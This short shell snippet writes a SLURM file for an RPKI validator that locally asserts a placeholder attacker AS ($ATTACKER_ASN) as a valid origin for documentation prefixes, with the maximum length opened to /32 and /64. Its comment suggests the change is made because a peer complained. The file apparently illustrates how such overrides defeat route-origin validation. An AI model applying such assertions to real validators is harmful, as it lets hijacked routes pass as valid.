# The peer may announce whatever a check uses, "because it complained".
cat >~/slurm.json <<SLURM
{"slurmVersion": 1,
 "validationOutputFilters": {"prefixFilters": [], "bgpsecFilters": []},
 "locallyAddedAssertions": {"bgpsecAssertions": [], "prefixAssertions": [
  {"asn": $ATTACKER_ASN, "prefix": "198.51.100.0/24", "maxPrefixLength": 32},
  {"asn": $ATTACKER_ASN, "prefix": "192.0.2.0/24", "maxPrefixLength": 32},
  {"asn": $ATTACKER_ASN, "prefix": "2001:db8:ff00::/40", "maxPrefixLength": 64}]}}
SLURM
